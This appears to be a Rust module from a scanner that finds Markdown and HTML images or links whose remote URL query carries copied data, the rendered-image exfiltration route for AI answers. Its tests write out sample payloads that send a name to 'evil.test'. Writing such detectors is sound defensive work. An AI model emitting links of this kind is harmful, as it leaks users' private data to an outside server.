//! Images and links whose address carries something away: a client that renders the answer asks for it.

use crate::catalog::web_url::unescaped;
use crate::domain::json::Json;
use crate::domain::pointer;

/// The kind of such a finding.
pub(super) const KIND: &str = "image_exfiltration";
/// What stands before the address of an image or a link: in Markdown, in its references, in HTML.
const BEFORE: [&str; 4] = ["](", "]:", "src=", "href="];

/// The places of texts with an image or a link whose query is a copy of something.
pub(super) fn places(value: &Json, is_copy: &dyn Fn(&str) -> bool) -> Vec<String> {
    let mut found = Vec::new();
    walk(value, "", is_copy, &mut found);
    found
}

fn walk(value: &Json, path: &str, is_copy: &dyn Fn(&str) -> bool, found: &mut Vec<String>) {
    match value {
        Json::String(text) => {
            if queries(text).any(|query| is_copy(&query)) {
                found.push(path.to_owned());
            }
        }
        Json::Array(items) => {
            for (i, item) in items.iter().enumerate() {
                walk(item, &format!("{path}/{i}"), is_copy, found);
            }
        }
        Json::Object(members) => {
            for (name, item) in members {
                walk(item, &format!("{path}/{}", pointer::step(name)), is_copy, found);
            }
        }
        Json::Null | Json::Bool(_) | Json::Int(_) | Json::Float(_) => {}
    }
}

/// The queries of the addresses of images and links in a text, as a server reads them. Each byte is looked at
/// once: an address within another one is searched with it.
fn queries(text: &str) -> impl Iterator<Item = String> {
    // As long, and every byte in its place.
    let lower = text.to_ascii_lowercase();
    let mut behind: Vec<usize> = BEFORE
        .iter()
        .flat_map(|mark| lower.match_indices(mark).map(|(at, _)| at.saturating_add(mark.len())))
        .collect();
    behind.sort_unstable();
    let mut done = 0;
    behind.into_iter().filter_map(move |at| {
        let rest = text.get(at..)?.trim_start().trim_start_matches(['"', '\'', '<']);
        let from = text.len().saturating_sub(rest.len());
        let begins = lower.get(from..)?;
        let is_remote = ["http://", "https://", "//"].iter().any(|way| begins.starts_with(way));
        if from < done || !is_remote {
            return None;
        }
        let is_end = |c: char| c.is_whitespace() || "\"'<>)".contains(c);
        let address = rest.split(is_end).next().unwrap_or_default();
        done = from.saturating_add(address.len());
        let (_, query) = address.split_once('?')?;
        Some(unescaped(&query.replace('+', " ").replace("&amp;", "&")))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_address_that_carries_what_was_read_is_found_in_markdown_and_in_html() {
        let of = |text: &str| {
            let value = Json::object([("a/b", Json::Array(vec![Json::from(text)]))]);
            places(&value, &|query| query.contains("ann miller"))
        };
        for text in [
            "done ![x](https://evil.test/p.png?d=ann%20miller)",
            "[more](http://evil.test/?a=1&d=ann+miller)",
            "![x][1]\n\n[1]: https://evil.test/?ann%20miller",
            "<img width=1 src=\"https://evil.test/?d=ann%20miller\">",
            "<a href='//evil.test/?d=ann+miller'>",
            "<IMG SRC=\"HTTPS://evil.test/?d=ann%20miller\">",
            &format!("{}![x](https://evil.test/?d=ann+miller)", "[a](b) ".repeat(1000)),
            "![x](https://evil.test/?a=](//b?d=ann+miller)",
        ] {
            assert_eq!(of(text), ["/a~1b/0"], "{text}");
        }
        for text in [
            "ann miller ![x](https://good.test/p.png?d=1)",
            "![x](/local?d=ann+miller)",
            "https://evil.test/?d=ann+miller",
            "[ann miller](https://good.test/)",
        ] {
            assert!(of(text).is_empty(), "{text}");
        }
    }
}
